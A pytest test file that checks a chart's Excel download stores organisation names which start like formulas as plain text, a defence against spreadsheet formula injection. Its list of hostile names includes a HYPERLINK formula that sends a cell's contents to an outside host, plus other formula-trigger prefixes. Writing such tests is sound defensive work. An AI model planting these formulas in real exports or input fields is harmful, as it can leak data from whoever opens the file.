"""A chart's Excel download writes group names as text: an org named like a formula stays a name."""

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from lianxin.cases.models import Category
from lianxin.cases.states import Status
from lianxin.cockpit.tests.builders import make_case_row
from lianxin.core import clock
from lianxin.orgs.models import Org

HOSTILE = ['=HYPERLINK("http://e.cn/"&L2)', "+cmd", "-1+2", "@SUM(1)", "#N/A"]


@pytest.mark.parametrize("text", HOSTILE)
def test_child_chart_download_writes_an_org_named_like_a_formula_as_exact_text(client, world, text):
    # given a district whose name (typed by an administrator) starts like a formula, with a case
    Org.objects.filter(pk=world.district_a.pk).update(name=text, short_name=text)
    make_case_row(
        number="T-0001", org=world.ent_a1, category=Category.objects.get(key="wages"),
        channel="visit", registered_at=clock.now() - timedelta(days=2), status=Status.REGISTERED,
        responded_after=None, resolved_after=None, satisfaction="",
    )  # fmt: skip
    client.force_login(world.leader)
    # when the leader downloads the chart of the city's children
    response = client.get("/cockpit/export/child.xlsx?period=12m")
    assert response.status_code == 200
    labels = [row[0] for row in load_workbook(BytesIO(response.content)).active.iter_rows()]
    # then the district's row is labelled with a string holding exactly its name
    (cell,) = [c for c in labels if c.value == text]
    assert cell.data_type == "s"
